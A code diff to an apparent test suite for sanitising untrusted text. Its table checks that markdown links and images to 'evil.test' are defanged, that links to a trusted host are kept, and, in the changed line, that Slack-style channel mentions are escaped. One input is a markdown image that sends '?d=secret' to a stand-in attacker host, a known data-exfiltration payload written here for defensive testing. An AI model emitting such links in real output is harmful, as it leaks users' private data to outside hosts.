@@ -266,7 +266,7 @@ describe("I4: untrusted text", () => {
     ["![logo](https://evil.test/p.png?d=secret)", "logo (`https://evil.test/p.png?d=secret`)"],
     ["[the docs](https://evil.test/x)", "the docs (`https://evil.test/x`)"],
     ["[the run](https://chief.test/runs/1)", "[the run](https://chief.test/runs/1)"],
-    ["posted in <#C12345678>", "posted in <#C12345678>"],
+    ["posted in <#C12345678>", "posted in &lt;#C12345678>"],
     ["see https://evil.test/a.", "see `https://evil.test/a`."],
     ["see https://chief.test/runs/1.", "see https://chief.test/runs/1."],
     ["[https://bank.test](https://evil.test)", "`https://bank.test` (`https://evil.test`)"],
